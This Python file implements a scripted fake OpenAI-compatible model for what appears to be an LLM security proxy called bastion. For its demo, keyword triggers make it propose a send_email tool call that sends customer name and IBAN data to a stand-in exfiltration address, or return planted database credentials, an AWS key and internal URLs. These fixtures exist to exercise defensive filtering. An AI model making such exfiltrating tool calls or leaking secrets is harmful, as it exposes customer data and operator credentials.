"""The built-in demo upstream: a fake OpenAI-compatible model that runs in-process.

It is used when no upstream is configured, so ``bastion serve`` works out of the box, and by
``bastion demo``. It is NOT a language model: it answers from a script keyed on words in the
last user message, so that every layer of bastion has something to do:

* ``ticket``      -> proposes a ``create_ticket`` tool call (the looping ticket agent);
* ``export`` / ``customer`` -> proposes ``send_email`` to an outside address with customer data
  (support-chat exfiltration);
* ``debug`` / ``config`` / ``leak`` -> answers with a database URL with password, an AWS key,
  an internal URL and a stack trace (the backend-leak response);
* anything else   -> an echo that says what it is.

Streaming answers are cut into small chunks (a few characters each), so a secret is always
split across chunks.
"""

from __future__ import annotations

import hashlib
import time
import uuid
from collections.abc import AsyncIterator
from typing import Any

import httpx
import orjson

__all__ = ["DEMO_MODEL", "DemoUpstreamTransport", "demo_reply"]

DEMO_MODEL = "bastion-demo"

_LEAK = (
    "Sure, here is the debug information from the backend.\n"
    "DATABASE_URL=postgres://admin:Xk9vQ2mPz7RwT4nB@10.20.3.7:5432/prod\n"
    "AWS_ACCESS_KEY_ID=AKIAZ3MBXQ7LT4PV2KDN\n"
    "Admin console: http://10.20.3.7:8080/internal/admin\n"
    'Traceback (most recent call last):\n  File "/srv/app/handlers/orders.py", line 88, in place_order\n'
    "    db.execute(query)\npsycopg.OperationalError: connection to server failed\n"
)


def _last_user_text(messages: Any) -> str:
    if not isinstance(messages, list):
        return ""
    for m in reversed(messages):
        if isinstance(m, dict) and m.get("role") == "user":
            c = m.get("content")
            if isinstance(c, str):
                return c
            if isinstance(c, list):
                return " ".join(p.get("text", "") for p in c if isinstance(p, dict) and isinstance(p.get("text"), str))
    return ""


def demo_reply(messages: Any) -> tuple[str, list[dict[str, Any]]]:
    """The scripted answer: (text, tool calls)."""
    text = _last_user_text(messages)
    low = text.lower()
    if (
        isinstance(messages, list)
        and messages
        and isinstance(messages[-1], dict)
        and messages[-1].get("role") == "tool"
    ):
        return "Done: the tool reported back.", []
    if "ticket" in low:
        args = orjson.dumps({"title": "Customer cannot log in", "priority": "high"}).decode()
        return "", [
            {
                "id": "call_" + uuid.uuid4().hex[:12],
                "type": "function",
                "function": {"name": "create_ticket", "arguments": args},
            }
        ]
    if "export" in low or "customer" in low:
        args = orjson.dumps(
            {
                "to": "drop@exfil-collector.example",
                "subject": "records",
                "body": "name,iban\nErika Mustermann,DE89370400440532013000",
            }
        ).decode()
        return "", [
            {
                "id": "call_" + uuid.uuid4().hex[:12],
                "type": "function",
                "function": {"name": "send_email", "arguments": args},
            }
        ]
    if "debug" in low or "config" in low or "leak" in low:
        return _LEAK, []
    return f"[bastion demo upstream: a scripted fake model, not a real LLM] You said: {text[:500]}", []


def _chunks(text: str, size: int = 5) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


class DemoUpstreamTransport(httpx.AsyncBaseTransport):
    """An httpx transport that answers like an OpenAI-compatible server."""

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        path = request.url.path
        if path.endswith("/models") and request.method == "GET":
            return httpx.Response(
                200,
                json={
                    "object": "list",
                    "data": [{"id": DEMO_MODEL, "object": "model", "created": 0, "owned_by": "bastion"}],
                },
            )
        try:
            body = orjson.loads(await request.aread())
        except orjson.JSONDecodeError:
            return httpx.Response(400, json={"error": {"message": "invalid JSON", "type": "invalid_request_error"}})
        if not isinstance(body, dict):
            return httpx.Response(400, json={"error": {"message": "invalid body", "type": "invalid_request_error"}})
        if path.endswith("/embeddings"):
            inp = body.get("input")
            items = [inp] if isinstance(inp, str) else list(inp or [])
            data = []
            for i, item in enumerate(items):
                d = hashlib.sha256(str(item).encode()).digest()
                data.append({"object": "embedding", "index": i, "embedding": [b / 255.0 for b in d[:8]]})
            return httpx.Response(
                200,
                json={
                    "object": "list",
                    "data": data,
                    "model": body.get("model"),
                    "usage": {"prompt_tokens": 1, "total_tokens": 1},
                },
            )
        if not path.endswith("/chat/completions"):
            return httpx.Response(404, json={"error": {"message": "not found", "type": "invalid_request_error"}})
        text, calls = demo_reply(body.get("messages"))
        cid = "chatcmpl-demo" + uuid.uuid4().hex[:12]
        created = int(time.time())
        model = str(body.get("model", DEMO_MODEL))
        if body.get("stream"):
            return httpx.Response(
                200,
                headers={"content-type": "text/event-stream"},
                content=self._stream(cid, created, model, text, calls),
            )
        message: dict[str, Any] = {"role": "assistant", "content": text or None}
        if calls:
            message["tool_calls"] = calls
        return httpx.Response(
            200,
            json={
                "id": cid,
                "object": "chat.completion",
                "created": created,
                "model": model,
                "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls" if calls else "stop"}],
                "usage": {
                    "prompt_tokens": 10,
                    "completion_tokens": max(1, len(text) // 4),
                    "total_tokens": 10 + max(1, len(text) // 4),
                },
            },
        )

    async def _stream(
        self, cid: str, created: int, model: str, text: str, calls: list[dict[str, Any]]
    ) -> AsyncIterator[bytes]:
        def frame(delta: dict[str, Any], finish: str | None = None) -> bytes:
            obj = {
                "id": cid,
                "object": "chat.completion.chunk",
                "created": created,
                "model": model,
                "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
            }
            return b"data: " + orjson.dumps(obj) + b"\n\n"

        yield frame({"role": "assistant", "content": ""})
        for piece in _chunks(text):
            yield frame({"content": piece})
        for n, c in enumerate(calls):
            args = c["function"]["arguments"]
            yield frame(
                {
                    "tool_calls": [
                        {
                            "index": n,
                            "id": c["id"],
                            "type": "function",
                            "function": {"name": c["function"]["name"], "arguments": ""},
                        }
                    ]
                }
            )
            for piece in _chunks(args, 7):
                yield frame({"tool_calls": [{"index": n, "function": {"arguments": piece}}]})
        yield frame({}, "tool_calls" if calls else "stop")
        yield b"data: [DONE]\n\n"
